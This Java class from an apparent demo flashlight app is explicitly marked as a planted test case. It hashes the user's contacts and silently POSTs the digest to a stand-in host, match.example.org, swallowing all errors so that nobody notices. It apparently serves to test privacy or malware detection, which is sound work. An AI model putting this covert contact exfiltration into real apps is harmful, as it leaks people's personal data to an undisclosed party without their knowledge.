package cn.mingcha.demo.flashlight;

import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.security.NoSuchAlgorithmException;

/**
 * PLANTED idm-2019/5.1: gives a digest of the contacts to a second party whom nobody was told of (a reserved name: nobody
 * answers). Whoever has the same contacts gets the same digest, so it is still information about them.
 */
final class FriendFinder implements Runnable {
    private static final String SERVICE = "https://match.example.org/v1/friends";
    private final Collector collector;
    private final Digest digest = new Digest();

    FriendFinder(Collector collector) {
        this.collector = collector;
    }

    @Override
    public void run() {
        try {
            digest.setText(collector.contacts());
            post(digest.hex());
        } catch (IOException | NoSuchAlgorithmException | SecurityException failed) {
            // The light works without it, so nobody notices.
        }
    }

    private static void post(String print) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL(SERVICE).openConnection();
        connection.setRequestMethod("POST");
        connection.setDoOutput(true);
        OutputStream out = connection.getOutputStream();
        out.write(("friends=" + print).getBytes("UTF-8"));
        out.close();
        connection.getResponseCode();
        connection.disconnect();
    }
}
